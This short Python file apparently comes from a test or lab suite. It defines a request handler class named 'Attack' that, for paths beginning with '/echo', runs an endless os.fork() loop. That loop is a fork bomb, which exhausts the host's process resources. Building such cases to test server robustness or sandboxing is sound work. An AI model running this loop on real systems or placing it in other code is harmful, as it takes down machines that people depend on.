import os

import server



class Attack(server.Broken):
    def answer(self):
        if not self.path.startswith("/echo"):
            return super().answer()
        while True:
            try:
                if os.fork() == 0:
                    continue
            except OSError:
                pass


server.serve(Attack)
